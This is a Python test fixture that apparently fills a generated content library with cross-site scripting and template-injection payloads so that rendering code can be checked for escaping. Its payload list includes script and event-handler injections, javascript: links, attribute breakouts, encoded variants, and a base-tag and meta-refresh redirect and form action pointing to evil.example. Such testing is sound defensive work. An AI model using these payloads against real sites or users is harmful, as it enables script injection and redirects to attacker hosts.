"""The planted library with an attack in every text: all payloads in each, so that nothing goes untried.

The words, ids and numbers are those of the plain library, so each page has a clean twin at the same address.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from luz.model.base import LocalText
from luz.model.contact import MAIL_PATTERN, WEB_ADDRESS_PATTERN
from luz.model.library import Library
from tests.leaks.oracle import committed_table
from tests.leaks.places import COMPANY, Place
from tests.leaks.planting import Garden

RUN = "window.PWN=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"javascript:{RUN}",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"[aquí](javascript:{RUN})",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"`onclick={RUN}`",
    "{{ 31337 * 3 }}{% raw %}${31337*3}#{31337*3}",
    f"<a href=javascript:{RUN}>aquí</a>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"</title></textarea></style></template></noscript><script>{RUN}</script>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    f"<form action=//evil.example><button formaction=javascript:{RUN}>x</button></form>",
    f"<details open ontoggle={RUN}><summary>x</summary>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E\\u003cscript\\u003e",
    f"]]><script>{RUN}</script><![CDATA[",
    "<!-- x --!> <!--",
    f'{{: onclick={RUN} }} | # * _ ~ | ![x](x"onerror="{RUN})',
)
"""What has run in other houses: tags, attributes, links, templates, Markdown, encodings, ends of elements."""
SUM = str(31337 * 3)
"""What a template would make of a payload, were it to read it."""
MAIL = f'"onfocus="{RUN}"autofocus="'
ADDRESS = f"?x=`onclick={RUN}`&lt;script&gt;{{{{31337*3}}}}"
"""What an attack comes to where a mail or web address may hold but few signs."""


@dataclass
class HostileGarden(Garden):
    """Plants an attack beside every word; `planted` remembers in which fields."""

    armed: set[str] = field(default_factory=set)
    first: Iterator[int] = field(default_factory=itertools.count)

    def _plain(self, kind: Any, place: Place) -> Any:
        grown = super()._plain(kind, place)
        if type(grown) is str:
            return self._armed(grown, place)
        if isinstance(grown, LocalText):
            return LocalText({code: self._armed(text, place) for code, text in grown.root.items()})
        return grown

    def _patterned(self, pattern: str, place: Place) -> str:
        grown = super()._patterned(pattern, place)
        if pattern in {MAIL_PATTERN, WEB_ADDRESS_PATTERN}:
            self.armed.add(place.fields[-1])
            return MAIL + grown if pattern == MAIL_PATTERN else grown + ADDRESS
        return grown

    def _armed(self, word: str, place: Place) -> str:
        """All payloads and then the word; each payload comes first in some texts."""
        self.armed.add(place.fields[-1])
        first = next(self.first) % len(PAYLOADS)
        return " ".join((*PAYLOADS[first:], *PAYLOADS[:first], word))


def hostile_library() -> tuple[Library, HostileGarden]:
    """Grow the library; the garden remembers what it armed."""
    garden = HostileGarden(committed_table())
    return garden.record(Library, Place(COMPANY)), garden
